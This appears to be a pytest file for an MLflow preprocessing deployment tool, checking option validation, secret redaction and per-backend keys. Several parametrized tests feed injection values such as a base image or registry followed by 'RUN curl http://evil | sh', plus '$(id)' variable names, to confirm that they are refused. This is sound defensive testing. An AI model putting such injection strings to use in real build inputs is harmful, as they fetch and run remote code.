"""The deployment plan as pure logic: the options, the container's labels, what the Dockerfile
is written from and what Docker is asked to run. No engine, no cluster, no broker: the
Docker-engine and Kubernetes tests run these same functions end to end."""

from __future__ import annotations

import json
import re

import pytest

from mlflow_preproc.deploy import options as opts
from mlflow_preproc.deploy.docker.containers import Containers
from mlflow_preproc.deploy import image_build
from mlflow_preproc.deploy.image_build import BuildError, prepare_context
from mlflow_preproc.deploy.spec import Deployment, container_spec
from mlflow_preproc.runtime.model_identity import ModelIdentity

MODEL = ModelIdentity("models:/fink-prep/1", "models:/fink-prep/1", "fink-prep", "1")
STREAM = {"mode": "kafka", "input_topic": "fink-alert"}


def plan(**given: str) -> Deployment:
    options = opts.resolve({**STREAM, **given})
    return Deployment("fink", MODEL.uri, MODEL, "preprocessing-fink-prep-1:latest", options)


def spec_of(d: Deployment):
    return container_spec(d, 0, 8080, 9100 if d.consuming else None)


# ---- finding 9: a broker outage must not leave the deployment exited for good ---------------

class FakeDockerClient:
    """Records what ``containers.run`` is given (the engine itself is in test_docker.py)."""

    def __init__(self):
        self.runs: list[dict] = []
        self.containers = self

    def run(self, image, **kwargs):
        self.runs.append({"image": image, **kwargs})


@pytest.mark.parametrize("mode", ["serve", "kafka", "both", "bridge"])
def test_containers_restart_for_as_long_as_it_takes_until_they_are_stopped(mode):
    extra = {"output_topic": "out", "api_url": "http://127.0.0.1:1"} if mode == "bridge" else {}
    client = FakeDockerClient()
    Containers(client).run(spec_of(plan(mode=mode, **extra)), "host")
    # A stream exits 2 after a minute without its broker: a retry limit would leave the
    # deployment exited after a few minutes of outage. `docker stop` (delete, update) still
    # stops it for good, and a restart during start-up still fails the health check.
    assert client.runs[0]["restart_policy"] == {"Name": "unless-stopped"}


# ---- finding 13: secrets never land in labels, annotations or `get` -------------------------

SECRETS = {"env.LIBRDKAFKA_SASL_PASSWORD": "hunter2", "env.LIBRDKAFKA_SASL_USERNAME": "alice",
           "env.AWS_SECRET_ACCESS_KEY": "s3cr3t", "env.MLFLOW_TRACKING_TOKEN": "t0ken",
           "env.LIBRDKAFKA_SSL_KEY_PASSWORD": "keypass"}


def test_secret_values_are_not_written_into_the_labels():
    spec = spec_of(plan(**SECRETS, **{"env.LOG_LEVEL": "DEBUG", "label.team": "alerts"}))
    labels = json.dumps(spec.labels)
    for value in SECRETS.values():
        assert value not in labels
    stored = json.loads(spec.labels["org.mlflow-preproc.config"])
    assert {k: stored[k] for k in SECRETS} == {k: opts.REDACTED for k in SECRETS}
    assert stored["env.LOG_LEVEL"] == "DEBUG" and stored["input_topic"] == "fink-alert"
    assert spec.labels["team"] == "alerts"
    # The container itself gets them: that is what they are for.
    assert spec.env["LIBRDKAFKA_SASL_PASSWORD"] == "hunter2"


def test_an_update_takes_the_secrets_back_from_the_running_container():
    spec = spec_of(plan(**SECRETS))
    stored = json.loads(spec.labels["org.mlflow-preproc.config"])
    restored = opts.restore_secrets(stored, spec.env)
    assert {k: restored[k] for k in SECRETS} == SECRETS
    assert opts.resolve(restored) == plan(**SECRETS).options


@pytest.mark.parametrize("name, secret", [
    ("env.LIBRDKAFKA_SASL_PASSWORD", True), ("env.LIBRDKAFKA_SASL_JAAS_CONFIG", True),
    ("env.GITHUB_TOKEN", True), ("env.API_KEY", True), ("env.DB_CREDENTIALS", True),
    ("env.LIBRDKAFKA_SSL_KEYSTORE_PASSWORD", True), ("env.MY_SECRET", True),
    ("env.LOG_LEVEL", False), ("env.MONKEY_MODE", False), ("env.LIBRDKAFKA_SESSION_TIMEOUT_MS",
                                                           False),
    ("input_topic", False), ("kafka_security_protocol", False), ("label.api_key", False),
])
def test_which_options_are_secret(name, secret):
    assert opts.is_secret(name) is secret


@pytest.mark.parametrize("label", ["org.mlflow-preproc.deployment", "org.mlflow-preproc.config",
                                   "app.kubernetes.io/managed-by"])
def test_a_label_may_not_overwrite_the_targets_own(label):
    with pytest.raises(opts.OptionError, match=f"label.{label}: .*the target's own"):
        opts.resolve({f"label.{label}": "other"})


def test_other_labels_are_the_users():
    assert opts.resolve({"label.org.mlflow-preprocessing-team": "a"})[
        "label.org.mlflow-preprocessing-team"] == "a"


# ---- finding 15: the Dockerfile's inputs, and keys the Docker backend cannot honour ---------

def test_secret_env_is_refused_on_docker_and_says_what_to_use():
    with pytest.raises(opts.OptionError, match="secret_env.LIBRDKAFKA_SASL_PASSWORD is for "
                                               "Kubernetes only.*-C env.LIBRDKAFKA_SASL_PASSWORD"):
        opts.resolve({"secret_env.LIBRDKAFKA_SASL_PASSWORD": "kafka-user/password"})
    assert opts.resolve({"backend": "kubernetes", "secret_env.X": "kafka-user/password"})


@pytest.mark.parametrize("key, value", [
    ("base_image", "python:3.11-slim\nRUN curl http://evil | sh"),
    ("base_image", "python:3.11-slim RUN x"), ("base_image", "Python:3.11"),
    ("python_version", "3.11\nRUN curl http://evil | sh"), ("python_version", "3.11-slim"),
])
def test_a_base_image_or_python_version_that_is_not_one_is_refused(key, value):
    with pytest.raises(opts.OptionError, match=f"{key}=.* is not a"):
        opts.resolve({key: value})


@pytest.mark.parametrize("reference", [
    "python:3.11-slim", "registry.example.org:5000/team/python:3.11.7-slim",
    "localhost/mlflow-preproc/debian-raw:bookworm",
    "python@sha256:" + "0" * 64])
def test_image_references_are_accepted(reference):
    assert opts.resolve({"base_image": reference})["base_image"] == reference


def test_the_models_python_version_must_be_a_version(tmp_path):
    assert image_build.base_image({}, "3.11.7") == "python:3.11.7-slim"
    assert image_build.base_image({"python_version": "3.12"}, "3.11.7") == "python:3.12-slim"
    with pytest.raises(BuildError, match=r"python_version '3.11\\nRUN .*' is not a Python "
                                         "version.*-C python_version="):
        image_build.base_image({}, "3.11\nRUN curl http://evil | sh")


def test_no_dockerfile_is_written_from_a_bad_base_image(tmp_path):
    (tmp_path / "requirements.txt").write_text("mlflow\n")
    with pytest.raises(BuildError, match="is not a Docker image reference"):
        prepare_context(tmp_path, "python:3.11-slim\nRUN curl http://evil | sh", None)


# ---- a rollout waits for a verdict on the new version, and a tripped brake fails it ------

@pytest.fixture
def fake_consumer_health():
    """A consumer's /healthz on loopback (FakeConsumerHealth: a real stream in the Docker
    tests), answering what the test sets."""
    from conftest import JsonHandler, serve_on_loopback

    answer = {"status": 200, "body": {}}

    class Handler(JsonHandler):
        def do_GET(self):  # noqa: N802
            self.answer(answer["status"], answer["body"])

    server = serve_on_loopback(Handler)
    yield server.server_port, answer
    server.shutdown()


def test_a_consumer_is_healthy_once_joined_and_settled_and_a_tripped_brake_fails_at_once(
        fake_consumer_health):
    from mlflow_preproc.deploy.docker.containers import NotHealthy, _is_healthy
    from mlflow_preproc.deploy.spec import ContainerSpec

    port, answer = fake_consumer_health
    spec = ContainerSpec("c", "img", {}, {}, None, [port])
    answer["body"] = {"status": "ok", "reason": "ok", "joined": True, "settled": False}
    assert _is_healthy(spec) is False  # joined, but no verdict on the version yet
    answer["body"]["settled"] = True
    assert _is_healthy(spec) is True
    answer["status"] = 503
    answer["body"] = {"status": "stalled", "joined": True, "settled": True,
                      "reason": "dead-letter brake engaged: 200 of the last 200 records ..."}
    with pytest.raises(NotHealthy, match="failed: dead-letter brake engaged: 200 of"):
        _is_healthy(spec)
    answer["body"]["reason"] = "the loop made no progress for 130 s"
    assert _is_healthy(spec) is False  # unhealthy for now: waited for until health_timeout


# ---- #19 finding 5: every pure check before the engine, the cluster or the broker ----------

# A loopback port nothing listens on: a Docker engine that cannot be reached, for real.
NO_ENGINE = "preproc:/tcp://127.0.0.1:1"


def refusal(call, *args, **kwargs) -> str:
    from mlflow_preproc.deploy.target import DeploymentError

    with pytest.raises(DeploymentError) as refused:
        call(*args, **kwargs)
    message = str(refused.value)
    assert "\n" not in message  # one Error: line
    return message


def no_engine():
    from mlflow_preproc.deploy.target import PreprocDeploymentClient

    return PreprocDeploymentClient(NO_ENGINE)


@pytest.mark.parametrize("name, fix", [("my deploy", "my-deploy"), ("-fink", "fink"),
                                       ("fink/1", "fink-1"), ("fink:1", "fink-1"), ("", "fink")])
def test_a_docker_name_docker_would_refuse_is_refused_first(name, fix):
    message = refusal(no_engine().create_deployment, name, "models:/fink-prep/1")
    assert f"deployment name {name!r} is not a Docker container name" in message
    assert message.endswith(f"use --name {fix}")


@pytest.mark.parametrize("name, fix", [("UX_Orders", "ux-orders"), ("fink.prep", "fink-prep"),
                                       ("my deploy", "my-deploy"), ("a" * 64, "a" * 63)])
def test_a_kubernetes_name_must_be_a_dns_label_and_is_never_rewritten(name, fix):
    message = refusal(no_engine().create_deployment, name, "models:/fink-prep/1",
                      config={"backend": "kubernetes"})
    assert f"deployment name {name!r} is not a Kubernetes name" in message
    assert f"use --name {fix}" in message


@pytest.mark.parametrize("name, backend", [("fink", "docker"), ("UX_Orders.v2", "docker"),
                                           ("fink-prep-2", "kubernetes")])
def test_good_names_pass(name, backend):
    opts.check_name(name, backend)


@pytest.mark.parametrize("tag", ["v 1", ".v1", "-v1", "v1:2", "a" * 129])
def test_a_tag_docker_would_refuse_is_refused_first(tag):
    message = refusal(no_engine().create_deployment, "fink", "models:/fink-prep/1",
                      config={"tag": tag})
    assert f"tag={tag!r} is not a Docker tag" in message and "-C tag=v1" in message
    assert opts.resolve({"tag": "v1.2_rc-3"})["tag"] == "v1.2_rc-3"


def test_a_bad_setting_is_reported_as_itself_not_as_a_missing_engine():
    message = refusal(no_engine().create_deployment, "fink", "models:/fink-prep/1",
                      config={"mode": "kafka", "input_topic": "t", "input_format": "xml"})
    assert "INPUT_FORMAT='xml' is not one of json, avro, confluent-avro" in message
    # an update needs the engine for what runs, but what it is given is checked before that
    message = refusal(no_engine().update_deployment, "fink", config={"input_format": "xml"})
    assert "INPUT_FORMAT='xml' is not one of" in message
    # and a delete's options before it stops anything (it used to remove the containers first)
    message = refusal(no_engine().delete_deployment, "fink", config={"remove_image": "maybe"})
    assert message == "remove_image='maybe' is not a boolean; use true or false"


def test_the_whole_configuration_is_checked_before_the_engine_is_contacted(tracking_uri):
    import mlflow

    with mlflow.start_run():
        uri = mlflow.preproc.log_model(lambda r: r, name="p", pip_requirements=[]).model_uri
    # A missing input topic is known from the options and the model alone.
    message = refusal(no_engine().create_deployment, "fink", uri, config={"mode": "kafka"})
    assert message.startswith("INPUT_TOPIC is not set"), message
    # Only a configuration that passes every check meets the engine (unreachable here).
    message = refusal(no_engine().create_deployment, "fink", uri)
    assert message.startswith("cannot reach a Docker engine at tcp://127.0.0.1:1"), message


# ---- #19 finding 7: get shows the deployment's own keys, list one short item each ----------

class FakeContainer:
    """What ``get``/``list`` read of a Docker container: its name, status and labels (the
    labels the real container is started with: container_spec's)."""

    def __init__(self, spec, status: str = "running"):
        self.name, self.labels, self.status = spec.name, spec.labels, status
        self.short_id = "0123456789ab"


class FakeDockerEngine:
    """``containers.list`` with label filters, as the Docker SDK answers it (the engine itself
    is in test_docker.py, busy here)."""

    def __init__(self, containers: list[FakeContainer]):
        self.found = containers
        self.containers = self

    def list(self, filters: dict, **_):
        def matches(labels: dict, wanted: str) -> bool:  # "key" or "key=value"
            key, sep, value = wanted.partition("=")
            return key in labels and (not sep or labels[key] == value)

        return [c for c in self.found if all(matches(c.labels, w) for w in filters["label"])]


def on_engine(*deployments: Deployment):
    from mlflow_preproc.deploy.target import PreprocDeploymentClient

    client = PreprocDeploymentClient("preproc")
    from mlflow_preproc.deploy.engine import Engine

    containers = [FakeContainer(spec_of(d)) for d in deployments]
    client._engine = Engine(client=FakeDockerEngine(containers))
    return client


def on_kubernetes() -> Deployment:
    from mlflow_preproc.deploy.spec import with_stream_defaults

    options = with_stream_defaults("fink", MODEL, opts.resolve({**STREAM,
                                                                "backend": "kubernetes"}))
    return Deployment("fink", MODEL.uri, MODEL, "preprocessing-fink-prep-1:latest", options)


KUBERNETES_ONLY = ("namespace", "autoscaling", "lag_threshold", "min_replicas", "push",
                   "service_monitor", "cpu_request", "memory_request")


def test_get_of_a_docker_deployment_shows_no_kubernetes_keys():
    got = on_engine(plan(input_format="avro")).get_deployment("fink")
    assert not set(KUBERNETES_ONLY) & set(got["config"]), got["config"]
    assert got["config"]["input_format"] == "avro" and got["config"]["mode"] == "kafka"
    assert got["config"]["health_timeout"] == "120"
    assert got["backend"] == "docker"


def test_get_of_a_kubernetes_deployment_shows_no_docker_keys():
    from mlflow_preproc.deploy.kubernetes.api import summary
    from mlflow_preproc.deploy.kubernetes.manifests import render

    got = summary(render(on_kubernetes(), partitions=4)[0])
    assert got["config"]["namespace"] == "default" and got["config"]["autoscaling"] == "true"
    assert "health_timeout" not in got["config"]


def test_list_prints_one_short_item_per_deployment():
    other = Deployment("other", "runs:/abc/model", MODEL, "preprocessing-other:latest",
                       opts.resolve({"mode": "serve"}), revision=3)
    assert on_engine(plan(), other).list_deployments() == [
        {"name": "fink", "flavor": "preprocessing", "backend": "docker",
         "model": "models:/fink-prep/1", "revision": 1, "status": "running"},
        {"name": "other", "flavor": "preprocessing", "backend": "docker",
         "model": "runs:/abc/model", "revision": 3, "status": "running"}]
    from mlflow_preproc.deploy.kubernetes.api import summary
    from mlflow_preproc.deploy.kubernetes.manifests import render
    from mlflow_preproc.deploy.target import listed

    assert listed(summary(render(on_kubernetes(), partitions=4)[0])) == {
        "name": "fink", "flavor": "preprocessing", "backend": "kubernetes",
        "model": "models:/fink-prep/1", "revision": 1, "status": "0/1 ready"}


def test_the_target_help_is_plain_text_and_says_which_keys_are_one_backends():
    from mlflow_preproc.deploy.target import target_help

    text = target_help()  # mlflow deployments help -t preproc
    assert "``" not in text
    lines = text.splitlines()
    assert any(line.split()[:1] == ["namespace"] and "(Kubernetes only)" in line for line in lines)
    assert any(line.split()[:1] == ["health_timeout"] and "(Docker only)" in line
               for line in lines)


# ---- #19 finding 9: create says where the deployment answers ------------------------------

def test_the_last_line_of_create_says_where_the_deployment_answers():
    from mlflow_preproc.deploy.target import ready_line

    served = {"name": "fink", "endpoint": "http://127.0.0.1:5001"}
    assert ready_line(served).startswith("fink is ready: POST http://127.0.0.1:5001/invocations")
    consumer = {"name": "fink", "endpoint": None, "consumer_group": "mlflow-preproc-fink",
                "output_topic": "fink-prep-1-preprocessed"}
    line = ready_line(consumer)
    assert "consumer group mlflow-preproc-fink" in line
    assert "output topic fink-prep-1-preprocessed" in line and "deployments get" in line


# ---- #33 finding 4: every key is applied by the chosen backend, or refused -----------------

def test_kubernetes_only_keys_are_refused_on_docker_naming_the_backend_that_takes_them():
    # They resolved with no message and the container ran without them (#33, finding 4).
    with pytest.raises(opts.OptionError) as refused:
        opts.resolve({"memory_limit": "256Mi", "cpu_limit": "0.5", "namespace": "prod",
                      "autoscaling": "true", "min_replicas": "0"})
    message = str(refused.value)
    assert message.startswith("namespace, autoscaling, min_replicas are for Kubernetes only")
    assert "-C backend=kubernetes" in message
    assert "memory_limit" not in message and "cpu_limit" not in message  # Docker applies them


def test_docker_only_keys_are_refused_on_kubernetes():
    with pytest.raises(opts.OptionError, match="health_timeout is for Docker only"):
        opts.resolve({"backend": "kubernetes", "health_timeout": "300"})
    with pytest.raises(opts.OptionError, match="remove_image is for Docker only"):
        opts.resolve({"backend": "kubernetes", "remove_image": "true"})


@pytest.mark.parametrize("backend", opts.BACKENDS)
def test_every_option_key_is_taken_by_a_backend_or_refused_there(backend):
    for key, option in opts.OPTIONS.items():
        given = {"backend": backend, key: option.example if key != "backend" else backend}
        if backend in option.backends:
            assert key in opts.resolve(given), key
        else:
            with pytest.raises(opts.OptionError, match=f"^{key} is for "):
                opts.resolve(given)


def test_docker_applies_memory_and_cpu_limits():
    client = FakeDockerClient()
    Containers(client).run(spec_of(plan(memory_limit="256Mi", cpu_limit="500m")), "host")
    assert (client.runs[0]["mem_limit"], client.runs[0]["nano_cpus"]) == (256 * 2**20,
                                                                           500_000_000)


@pytest.mark.parametrize("key, value, message", [
    ("memory_limit", "256MB", "is not a Kubernetes quantity"),
    ("memory_limit", "1Mi", "below 6Mi"), ("memory_limit", "0", "above 0"),
    ("cpu_limit", "half", "is not a Kubernetes quantity"), ("cpu_limit", "5m", "at least 10m"),
    ("cpu_request", "-1", "is not a Kubernetes quantity"),
])
def test_resource_quantities_are_checked_before_anything_is_built(key, value, message):
    backend = "kubernetes" if key.endswith("request") else "docker"
    with pytest.raises(opts.OptionError, match=f"{key}={value!r} .*{message}"):
        opts.resolve({"backend": backend, key: value})


@pytest.mark.parametrize("value, expected", [("1Gi", 2**30), ("1.5Gi", 3 * 2**29),
                                             ("512M", 512_000_000), ("1e9", 10**9),
                                             ("268435456", 268435456)])
def test_memory_quantities_as_kubernetes_reads_them(value, expected):
    from mlflow_preproc.deploy.resources import memory_bytes

    assert memory_bytes(value) == expected


def test_an_update_reads_back_every_key_it_was_created_with():
    # A Kubernetes update starts from the annotation; it left network_mode out, so an update
    # built the image on another network than the create did (#33, finding 4).
    from mlflow_preproc.deploy.docker.containers import options_of
    from mlflow_preproc.deploy.kubernetes.api import summary
    from mlflow_preproc.deploy.kubernetes.manifests import render

    given = {**SECRETS, "network_mode": "bridge", "no_cache": "true",
             "docker_host": "unix:///run/docker.sock", "label.team": "alerts"}
    docker = plan(**given, memory_limit="1Gi")
    spec = spec_of(docker)
    assert opts.restore_secrets(options_of(FakeContainer(spec)), spec.env) == {
        k: v for k, v in docker.options.items() if k != "remove_image"}
    from mlflow_preproc.deploy.spec import with_stream_defaults

    options = with_stream_defaults("fink", MODEL, opts.resolve(
        {**STREAM, **given, "backend": "kubernetes", "cpu_request": "1"}))
    kubernetes = Deployment("fink", MODEL.uri, MODEL, "preprocessing-fink-prep-1:latest",
                            options)
    deployment = render(kubernetes, partitions=4)[0]
    env = {e["name"]: e["value"] for e in
           deployment["spec"]["template"]["spec"]["containers"][0]["env"] if "value" in e}
    assert opts.restore_secrets(summary(deployment)["config"], env) == kubernetes.options


# ---- #33 finding 5: two mounts of one host file --------------------------------------------

def test_two_mounts_of_one_host_file_are_both_given_to_docker(tmp_path):
    # docker-py's volumes dict is keyed by the host path: the second mount replaced the first.
    props = tmp_path / "client.properties"
    props.write_text("bootstrap.servers=127.0.0.1:9092\n")
    client = FakeDockerClient()
    Containers(client).run(spec_of(plan(**{"mount./etc/kafka/client.properties": str(props),
                                            "mount./opt/ml/client.properties": str(props)})),
                           "host")
    assert "volumes" not in client.runs[0]
    assert sorted((m["Target"], m["Source"], m["Type"], m["ReadOnly"])
                  for m in client.runs[0]["mounts"]) == [
        ("/etc/kafka/client.properties", str(props), "bind", True),
        ("/opt/ml/client.properties", str(props), "bind", True)]


# ---- #33: option values with shell or Dockerfile metacharacters ----------------------------

@pytest.mark.parametrize("key, value, message", [
    # written into the image reference: the build's tag and the manifests' image
    ("registry", "registry.example.org/fink\nRUN curl http://evil | sh", "registry="),
    ("registry", "registry.example.org/fink;id", "registry="),
    # a variable no pod allows (the API server refused it at apply, after build and push)
    ("env.MY VAR", "1", "env.MY VAR: 'MY VAR' is not a variable name"),
    ("env.X\nRUN id", "1", "is not a variable name"),
    ("env.$(id)", "1", "is not a variable name"),
])
def test_values_that_would_leave_their_place_are_refused(key, value, message):
    with pytest.raises(opts.OptionError, match=re.escape(message)):
        opts.resolve({key: value})


def test_values_of_variables_and_labels_are_kept_verbatim():
    odd = "it's \"$(id)\"; `id` $HOME \\ |\nRUN id"
    spec = spec_of(plan(**{"env.GREETING": odd, "label.note": odd,
                           "registry": "registry.example.org:5000/fink"}))
    assert spec.env["GREETING"] == odd and spec.labels["note"] == odd


def test_an_update_drops_the_other_backends_keys_stored_before_they_were_refused():
    # Deployments made before #33 stored every key's default, Kubernetes' ones too.
    stored = {**{k: o.default for k, o in opts.OPTIONS.items() if k not in opts._DERIVED},
              **STREAM, "memory_request": "1Gi", "secret_env.X": "kafka/x"}
    kept, ignored = opts.applied_by(stored, "docker")
    assert ignored == ["memory_request", "secret_env.X"]  # set, and never applied: said
    assert opts.resolve(kept)["input_topic"] == "fink-alert"
